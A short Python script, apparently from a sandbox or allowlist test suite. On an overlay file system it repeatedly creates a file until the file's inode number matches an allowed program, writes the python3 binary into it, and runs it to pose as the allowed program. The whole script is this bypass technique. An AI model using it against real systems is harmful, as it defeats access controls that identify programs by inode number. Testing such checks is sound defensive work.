# On an overlay of two file systems files share inode numbers: makes one with the number of the allowed program, puts a program
# of its own in it, connects, and becomes the allowed one.
#   same_number.py FOLDER ALLOWED_PROGRAM
folder, allowed = sys.argv[1:]
wanted = os.stat(allowed).st_ino
mine = folder + '/mine'
for attempt in range(5000):
    fd = os.open(mine, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o755)
    if os.fstat(fd).st_ino == wanted:
        break
    os.close(fd)
    os.unlink(mine)
else:
    tell(refused='no file got that number')
    sys.exit()
with os.fdopen(fd, 'wb') as file:
    file.write(open('/usr/bin/python3', 'rb').read())
child, sock = turn_into(mine, 'number', allowed)
same = os.stat(mine).st_ino == os.stat(f'/proc/{child}/exe').st_ino
tell(child=child, same=same)
proceed()
tell(status=status(sock))
